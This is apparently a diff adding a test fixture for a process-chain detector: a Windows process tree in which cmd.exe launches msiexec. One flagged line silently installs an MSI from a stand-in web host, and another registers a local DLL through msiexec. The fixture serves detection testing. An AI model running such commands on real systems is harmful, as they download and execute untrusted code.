@@ -1,0 +1,5 @@
+os windows
+101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
+102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
++ 103 102 ana - C:\Windows\System32\msiexec.exe | msiexec /q /i http://example.test/a.msi
++ 104 102 ana - C:\Windows\System32\msiexec.exe | msiexec /y C:\data\a.dll
